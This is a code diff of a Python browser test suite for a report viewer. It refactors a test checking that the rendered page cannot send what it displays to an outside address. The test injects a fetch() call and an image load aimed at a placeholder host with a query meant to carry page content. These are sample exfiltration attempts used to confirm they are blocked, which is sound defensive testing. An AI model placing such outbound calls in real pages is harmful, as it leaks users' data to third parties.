@@ -5,20 +5,9 @@ import re
 import fake_run
 import numpy as np
 import pytest
-from chromium import (
-    NO_DRAWING,
-    PATIENCE_MS,
-    VIEWPORT,
-    Followed,
-    brown,
-    canvas_picture,
-    canvas_pixels,
-    open_page,
-    wait_until,
-)
+from chromium import Followed, brown, canvas_picture, canvas_pixels, open_page, wait_until
 
 from viewer.display.layers import first_view
-from viewer.page.guard import GuardedServer
 from viewer.report.report import write_report
 
 pytestmark = pytest.mark.browser
@@ -106,17 +95,11 @@ def test_the_report_opens_from_a_file_in_light_and_dark_without_a_complaint(brow
 NOT_OURS = "http://192.0.2.1/"  # an address of nobody [RFC 5737]
 
 
-def test_nothing_that_gets_into_the_page_can_send_what_it_sees_elsewhere(browser, truth, tmp_path):
-    fake_run.start_run(tmp_path / "heap", truth)
-    it = Followed(tmp_path / "heap", GuardedServer("127.0.0.1", 0))
-    tab, left = browser.new_page(viewport=VIEWPORT), []  # its network ends at this machine
-    tab.set_default_timeout(PATIENCE_MS)
-    tab.route(lambda url: not url.startswith((it.url, "data:", "blob:")), lambda r: left.append(r) or r.abort())
-    tab.add_init_script(NO_DRAWING)
-    tab.goto(it.url)
+def test_nothing_that_gets_into_the_page_can_send_what_it_sees_elsewhere(browser, followed):
+    (tab, _), left = open_page(browser, followed.url, is_drawn=False), []  # its network ends at this machine
+    tab.route(lambda url: not url.startswith((followed.url, "data:", "blob:")), lambda r: left.append(r) or r.abort())
     tab.wait_for_selector("canvas")
     tab.evaluate(f"fetch('{NOT_OURS}?what=it+sees', {{mode: 'no-cors'}}).catch(() => 0)")
     tab.evaluate(f"new Promise(done => {{ const i = new Image(); i.onerror = done; i.src = '{NOT_OURS}'; }})")
     assert not left
     tab.close()
-    it.close()
